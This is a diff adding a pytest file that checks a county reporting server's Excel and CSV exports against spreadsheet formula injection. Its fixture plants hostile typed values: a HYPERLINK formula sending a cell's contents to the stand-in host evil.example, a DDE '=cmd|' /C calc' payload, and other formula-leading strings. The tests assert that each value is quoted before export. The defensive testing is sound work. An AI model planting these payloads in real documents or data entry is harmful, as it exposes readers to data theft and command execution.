@@ -1,0 +1,140 @@
+"""Spreadsheet formula injection (CONTRACT §10): text a user typed — a household head, a village,
+a cadre's name, a problem typed on a phone — never becomes a formula in a file the server
+writes. Each file is opened the way its reader opens it (openpyxl, csv) and every cell checked."""
+
+from __future__ import annotations
+
+import csv
+import io
+from pathlib import Path
+
+import pytest
+from openpyxl import load_workbook
+
+from server import exports
+from server.accounts import create_user
+from server.jobs import run_now
+from server.service import create_server_records
+from tests.county import PASSWORD, uid
+from tests.test_reports import push, set_clock
+
+W47 = "2026-W47"
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+HYPERLINK = '=HYPERLINK("http://evil.example/?q="&C5,"点击查看")'
+DDE = "=cmd|' /C calc'!A0"
+
+
+@pytest.fixture
+def hostile(any_county):
+    """A township, village, household, cadre and open problem whose every typed text starts like
+    a formula; the household is due and unvisited in W47, so it is on every sheet."""
+    app, r = any_county.app, any_county.regions
+    r["evil_township"], r["evil_village"] = uid(), uid()
+    household = any_county.households["evil"] = uid()
+    with app.app_context():
+        create_server_records(
+            [
+                ("region", r["evil_township"], {
+                    "parent_id": r["county"], "level": "township", "name": "+1+西山镇",
+                    "code": "code-evil-township",
+                }),
+                ("region", r["evil_village"], {
+                    "parent_id": r["evil_township"], "level": "village", "name": DDE,
+                    "code": "code-evil-village",
+                }),
+                ("household", household, {
+                    "village_id": r["evil_village"], "code": "-2+3", "head_name": HYPERLINK,
+                    "address": "@SUM(1+1)", "phone": "+8613905631299", "category": "#N/A",
+                    "status": "active", "visit_policy": "weekly", "lat": None, "lon": None,
+                    "notes": "\t=1+1",
+                }),
+            ],
+            actor=None,
+        )  # fmt: skip
+        any_county.users["evil_cadre"] = create_user(
+            "evil_cadre", PASSWORD, "cadre", [r["evil_village"]], [], "-2+3+cmd|' /C calc'!A0"
+        )
+    phone = any_county.device("evil_cadre")
+    push(app, phone, "2026-11-20T18:00:00+08:00", [
+        phone.op("create", "problem", uid(), {
+            "household_id": household, "category": "@SUM(A1:A9)",
+            "description": "\r=HYPERLINK(\"http://evil.example\")",
+            "assignee_id": any_county.users["evil_cadre"], "due_date": "2026-11-30",
+        }),
+    ])  # fmt: skip
+    set_clock(app, "2026-11-24T09:00:00+08:00")
+    return any_county
+
+
+def assert_no_formula_in_workbook(content: bytes) -> None:
+    book = load_workbook(io.BytesIO(content))
+    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
+    evaluated = [(cell.coordinate, cell.data_type) for cell in cells if cell.data_type in "fe"]
+    assert evaluated == []  # no formula, and no typed #N/A read as an error value
+    texts = [cell.value for cell in cells if isinstance(cell.value, str)]
+    assert [text for text in texts if text.startswith(FORMULA_STARTS)] == []
+
+
+def assert_no_formula_in_csv(text: str) -> None:
+    fields = [field for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for field in row]
+    assert [field for field in fields if field.startswith(FORMULA_STARTS)] == []
+
+
+def download(county, path: str, region: str) -> bytes:
+    admin = county.device("admin")
+    query = {"period": W47, "region_id": county.regions[region]}
+    response = admin.client.get(path, query_string=query, headers=admin.headers)
+    assert response.status_code == 200, response.get_json()
+    return response.data
+
+
+@pytest.mark.parametrize("region", ["county", "evil_township"])
+def test_no_typed_text_is_a_formula_in_the_coverage_workbook(hostile, region):
+    assert_no_formula_in_workbook(download(hostile, "/api/v1/reports/coverage.xlsx", region))
+
+
+@pytest.mark.parametrize("region", ["county", "evil_township"])
+def test_no_typed_text_starts_like_a_formula_in_the_coverage_csv(hostile, region):
+    content = download(hostile, "/api/v1/reports/coverage.csv", region)
+    assert_no_formula_in_csv(content.decode("utf-8"))
+
+
+def test_no_typed_text_is_a_formula_in_the_bulletin_jobs_workbooks(hostile):
+    app = hostile.app
+    set_clock(app, "2026-11-23T08:00:00+08:00")  # Monday: the bulletin of W47
+    with app.app_context():
+        assert run_now("weekly_bulletin").status == "ok"
+    files = sorted((Path(app.instance_path) / "bulletins").iterdir())
+    assert len(files) == 4  # the county and its three townships
+    for path in files:
+        assert_no_formula_in_workbook(path.read_bytes())
+
+
+def test_typed_text_keeps_its_words_behind_a_quote_and_figures_stay_numbers(hostile):
+    with hostile.app.app_context():
+        content = exports.weekly_bulletin_xlsx(W47, hostile.regions["evil_township"])
+    book = load_workbook(io.BytesIO(content))
+    coverage, unvisited, problems = book["覆盖率"], book["未访户"], book["未办结问题"]
+    assert [c.value for c in coverage[4][:2]] == ["'+1+西山镇", "'" + DDE]
+    assert [(c.value, c.data_type) for c in coverage[4][2:]] == [
+        (1, "n"),
+        (0, "n"),
+        (1, "n"),
+        (0, "n"),
+    ]
+    assert [c.value for c in unvisited[4][2:4]] == ["'-2+3", "'" + HYPERLINK]
+    assert (unvisited[4][5].value, unvisited[4][5].data_type) == ("#N/A", "s")
+    description = problems[4][5].value  # the typed CR comes back as LF: XML normalises it
+    assert description[0] == "'" and description[2:] == '=HYPERLINK("http://evil.example")'
+    assert problems[4][7].value == "'-2+3+cmd|' /C calc'!A0"
+    assert all(cell.data_type == "s" for cell in problems[4][:8])
+
+
+@pytest.mark.parametrize("typed", ["=1+1", "+1", "-5", "@SUM(A1)", "\t=1", "\r=1"])
+def test_spreadsheet_text_prefixes_a_quote_to_text_that_starts_like_a_formula(typed):
+    assert exports.spreadsheet_text(typed) == "'" + typed
+
+
+@pytest.mark.parametrize("value", ["上村", "1+1", "a=b", "", None, -5, 0.667])
+def test_spreadsheet_text_leaves_other_text_and_every_number_alone(value):
+    assert exports.spreadsheet_text(value) == value
